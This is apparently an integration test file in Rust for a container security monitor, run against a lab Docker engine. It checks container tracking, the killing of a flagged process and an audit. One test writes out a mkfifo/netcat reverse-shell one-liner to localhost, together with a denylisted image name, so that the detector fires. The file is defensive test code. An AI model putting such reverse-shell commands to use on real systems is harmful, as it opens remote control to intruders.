//! The engine client against a real Docker engine: the lab's, which `cargo xtask test` starts for these tests.
//! Where the kernel half would announce a cgroup, a scan does.

use anyhow::{Context, Result, anyhow, bail, ensure};
use monitor::cli::audit::{self, Audit, EXIT_FOUND};
use monitor::container::denylist::Denylist;
use monitor::container::docker::{self, Engine, Notice, Settings};
use monitor::container::{Registry, hierarchy};
use monitor::event::{Body, ContainerKey, Event, ProcessKey, Reason, Rung, Verdict};
use monitor::finding::{Action, Detection, EnforcedBy, FindingKind, Outcome};
use monitor::respond::policy::{Mode, Rules};
use monitor::respond::{Held, Means, Reflex};
use monitor_common::exec::EXEC_RELAY;
use monitor_common::policy::Policy;
use monitor_common::state::{CLASS_FLAG_C, CLASS_MULTICALL, CLASS_SHELL, CutKey, Task};
use std::collections::HashMap;
use std::process::Command;
use std::sync::atomic::Ordering;
use std::sync::mpsc::{Receiver, sync_channel};
use std::time::{Duration, Instant};

/// Names the engine's socket.
pub const SOCKET_VARIABLE: &str = "BULKHEAD_TEST_DOCKER";
/// Names an image in it with busybox's programs.
pub const IMAGE_VARIABLE: &str = "BULKHEAD_TEST_IMAGE";
/// A listed image under a mirror's name.
const BAD_IMAGE: &str = "mirror.local/docker123321/mysql5";
const WAIT: Duration = Duration::from_secs(30);
const SHORT_LIVED: u64 = 10;

fn variable(name: &str) -> Result<String> {
    std::env::var(name).with_context(|| format!("{name} is not set"))
}

fn docker(arguments: &[&str]) -> Result<String> {
    let host = format!("unix://{}", variable(SOCKET_VARIABLE)?);
    let output = Command::new("docker").arg("-H").arg(host).args(arguments).output().context("docker")?;
    ensure!(output.status.success(), "docker {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    Ok(String::from_utf8(output.stdout)?.trim().to_owned())
}

/// Something of the engine's, removed whatever happens.
struct Made {
    id: String,
    remove: &'static [&'static str],
}

impl Drop for Made {
    fn drop(&mut self) {
        if let Err(error) = docker(&[self.remove, &[self.id.as_str()]].concat()) {
            eprintln!("left behind: {error:#}");
        }
    }
}

/// A container that runs `sh -c script`.
fn run(name: &str, image: &str, label: &str, script: &str) -> Result<Made> {
    let fixed = ["run", "-d", "--network", "none", "--entrypoint", "sh"];
    let id = docker(&[&fixed[..], &["--name", name, "--label", label, image, "-c", script]].concat())?;
    Ok(Made { id, remove: &["rm", "-f"] })
}

fn follow() -> Result<(Registry, Engine, Receiver<Notice>)> {
    let registry = Registry::new(hierarchy::detect()?);
    let (sender, notices) = sync_channel(1024);
    let engine = docker::start(Settings::new(variable(SOCKET_VARIABLE)?), registry.clone(), sender)?;
    let connected = notices.recv_timeout(WAIT).context("the engine client does not connect")?;
    ensure!(matches!(connected, Notice::Connected { data_root: Some(_) }), "{connected:?}");
    Ok((registry, engine, notices))
}

/// Scans until `wanted` is there.
fn until<T>(registry: &Registry, what: &str, mut wanted: impl FnMut() -> Option<T>) -> Result<T> {
    let end = Instant::now() + WAIT;
    loop {
        registry.scan();
        if let Some(found) = wanted() {
            return Ok(found);
        }
        if Instant::now() > end {
            bail!("waited in vain: {what}");
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Name, image, labels and digest arrive, a new name does too; a culprit is killed in the container and
/// nobody else, and a process of the host is refused in the same container's name.
pub fn live_container_is_completed_and_its_culprit_killed() -> Result<()> {
    let image = variable(IMAGE_VARIABLE)?;
    let (registry, _engine, notices) = follow()?;
    let started = run("bulkhead-live", &image, "bulkhead.mode=protect", "sleep 300 & wait; sleep 301")?;
    let key = until(&registry, "the cgroup", || registry.key_of_id(&started.id))?;
    let view = until(&registry, "the metadata", || Some(registry.view(key)).filter(|v| v.complete))?;
    ensure!(view.name == "bulkhead-live" && view.image == image && view.runtime == "docker", "{view:?}");
    ensure!(view.labels["bulkhead.mode"] == "protect" && view.digest.starts_with("sha256:"), "{view:?}");
    // A notice comes only if the cgroup was known before the metadata was complete.
    let told: Vec<Notice> = notices.try_iter().collect();
    ensure!(told.iter().all(|notice| *notice == Notice::Completed(key)), "{told:?}");
    docker(&["rename", "bulkhead-live", "bulkhead-renamed"])?;
    until(&registry, "the new name", || (registry.view(key).name == "bulkhead-renamed").then_some(()))?;

    let sleeper = |event: &Event| matches!(&event.body, Body::Exec(exec) if exec.args[..] == ["sleep", "300"]);
    let inside = until(&registry, "both processes", || {
        let events = monitor::startup::scan(&registry, &|_, _| 0, false).ok()?;
        let inside: Vec<Event> = events.into_iter().filter(|event| event.container == key).collect();
        (inside.len() == 2 && inside.iter().any(sleeper)).then_some(inside)
    })?;
    let (Some(target), Some(init)) =
        (inside.iter().find(|event| sleeper(event)), inside.iter().find(|event| !sleeper(event)))
    else {
        bail!("no culprit among {inside:?}");
    };
    let rules = Rules {
        default_mode: Mode::Monitor,
        actions: HashMap::from([(FindingKind::Miner, Action::Kill)]),
        ..Rules::default()
    };
    let detection = Detection::new(FindingKind::Miner, target.process, "test");
    let outcome = respond(&rules, &registry, target, &detection, &[init.process]);
    let pid = target.process.tgid;
    ensure!(outcome == Outcome::Killed { by: EnforcedBy::Pidfd, processes: vec![pid] }, "{outcome:?}");
    until(&registry, "the end", || std::fs::metadata(format!("/proc/{pid}/exe")).is_err().then_some(()))?;
    ensure!(std::fs::metadata(format!("/proc/{}/exe", init.process.tgid)).is_ok(), "init was no culprit");

    let own = ProcessKey { tgid: std::os::unix::process::parent_id(), start_ns: 0 };
    let event =
        Event { process: own, verdict: Verdict::Observed, reason: Reason::None, rung: Rung::None, ..target.clone() };
    let detection = Detection::new(FindingKind::Miner, own, "test");
    let outcome = respond(&rules, &registry, &event, &detection, &[]);
    ensure!(matches!(outcome, Outcome::Refused { .. }), "{outcome:?}");
    Ok(())
}

/// A container from before the client, and ten that live for a moment: each is named when its cgroup
/// appears, as the engine announces it before it makes one.
pub fn live_containers_before_and_short_are_named() -> Result<()> {
    let image = variable(IMAGE_VARIABLE)?;
    let before = run("bulkhead-before", &image, "a=b", "sleep 300")?;
    let (registry, engine, _notices) = follow()?;
    let key = until(&registry, "the cgroup", || registry.key_of_id(&before.id))?;
    let view = until(&registry, "the metadata", || Some(registry.view(key)).filter(|v| v.complete))?;
    ensure!(view.name == "bulkhead-before", "{view:?}");

    let at_first = engine.stats().completed.load(Ordering::Relaxed);
    let host = format!("unix://{}", variable(SOCKET_VARIABLE)?);
    let mut named = 0;
    for number in 0..SHORT_LIVED {
        let name = format!("bulkhead-short-{number}");
        let fixed = ["-H", &host, "run", "--rm", "--network", "none", "--entrypoint", "true", "--name", &name, &image];
        let mut child = Command::new("docker").args(fixed).spawn()?;
        while child.try_wait()?.is_none() {
            for change in registry.scan().iter().filter(|change| change.is_container()) {
                named += u64::from(registry.view(change.container).name == name);
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    let completed = || engine.stats().completed.load(Ordering::Relaxed);
    until(&registry, "ten completed", || (completed() >= at_first + SHORT_LIVED).then_some(()))?;
    ensure!(named == SHORT_LIVED, "{named} of {SHORT_LIVED} were named when their cgroup appeared");
    ensure!(engine.stats().inspections_dropped.load(Ordering::Relaxed) == 0, "inspections were dropped");
    let listed = docker::list_once(&Settings::new(variable(SOCKET_VARIABLE)?))?;
    ensure!(listed.iter().any(|l| l.id == before.id && l.running && l.metadata.complete), "{listed:?}");
    Ok(())
}

/// A container made from a listed image under a mirror's name, in which a shell hangs on `nc`.
pub fn live_audit_finds_bad_image_and_shell() -> Result<()> {
    docker(&["tag", &variable(IMAGE_VARIABLE)?, BAD_IMAGE])?;
    let _tag = Made { id: BAD_IMAGE.to_owned(), remove: &["image", "rm"] };
    let script = "sleep 300 | nc -l -p 4000 >/dev/null & sleep 1; mkfifo /tmp/f; \
                  cat /tmp/f | sh 2>&1 | nc 127.0.0.1 4000 >/tmp/f";
    let started = run("bulkhead-bad", BAD_IMAGE, "a=b", script)?;
    let end = Instant::now() + WAIT;
    loop {
        let (status, answer) = audit_once()?;
        let findings = answer["findings"].as_array().ok_or_else(|| anyhow!("no findings in {answer}"))?;
        let ours: Vec<_> = findings.iter().filter(|f| f["container"]["id"] == *started.id).collect();
        let has = |kind: &str| ours.iter().filter(|f| f["kind"] == kind).count() == 1;
        if has("image_denylist") && has("reverse_shell") {
            ensure!(status == EXIT_FOUND && ours.len() == 2, "{status}: {answer:#}");
            ensure!(ours.iter().all(|f| f["container"]["name"] == "bulkhead-bad"), "{answer:#}");
            return Ok(());
        }
        ensure!(Instant::now() < end, "{answer:#}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn audit_once() -> Result<(u8, serde_json::Value)> {
    let list = Denylist::new(&["docker123321/*"], &[])?;
    let mut judge = |event: &Event, _: &Registry| match &event.body {
        Body::Exec(exec) if exec.flags & EXEC_RELAY != 0 => {
            vec![Detection::new(FindingKind::ReverseShell, event.process, "a shell behind a relay")]
        }
        _ => Vec::new(),
    };
    let mut audit = Audit {
        engine: Some(Settings::new(variable(SOCKET_VARIABLE)?)),
        denylist: &list,
        classify: &|name, _| match name {
            "sh" => CLASS_SHELL | CLASS_FLAG_C,
            "busybox" => CLASS_MULTICALL,
            _ => 0,
        },
        judge: &mut judge,
        host: false,
        json: true,
    };
    let mut out = Vec::new();
    let status = audit::run(&mut audit, &mut out)?;
    Ok((status, serde_json::from_slice(&out).context("the audit's answer")?))
}

/// A cgroup v2 mount of our own comes and goes.
pub fn private_cgroup_mount_comes_and_goes() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let point = folder.path().join("cgroup");
    let mount = hierarchy::mount_private(&point)?;
    ensure!(mount.path().join("cgroup.procs").exists(), "no cgroup there");
    drop(mount);
    ensure!(!point.exists(), "the mount point is still there");
    Ok(())
}

/// What the daemon does by itself, without a kernel half.
fn respond(
    rules: &Rules,
    registry: &Registry,
    event: &Event,
    detection: &Detection,
    descendants: &[ProcessKey],
) -> Outcome {
    let (mut reflex, mut held) = (NoReflex, Held::default());
    let mut means = Means { rules, registry, reflex: &mut reflex, held: &mut held, stop: None };
    let acted = monitor::respond::act(&mut means, event, detection, descendants);
    if let Some(hunt) = acted.hunt {
        held.pursue(&mut reflex, registry, hunt);
    }
    acted.outcome
}

struct NoReflex;

impl Reflex for NoReflex {
    fn policy(&mut self, _cgroup: u64, _policy: &Policy) {}
    fn responses(&mut self, _bits: u32) {}
    fn in_force(&self) -> u32 {
        0
    }
    fn cut(&mut self, _key: CutKey, _container: ContainerKey) -> bool {
        false
    }
    fn uncut(&mut self, _key: CutKey) {}
    fn doom(&mut self, _lineage: u32, _container: ContainerKey) {}
    fn born(&self, _lineage: u32) -> u64 {
        0
    }
    fn pardon(&mut self, _lineage: u32) {}
    fn task(&self, _tgid: u32) -> Option<Task> {
        None
    }
    fn members(&self, _container: ContainerKey, _lines: &[u32]) -> Vec<(u32, Task)> {
        Vec::new()
    }
}
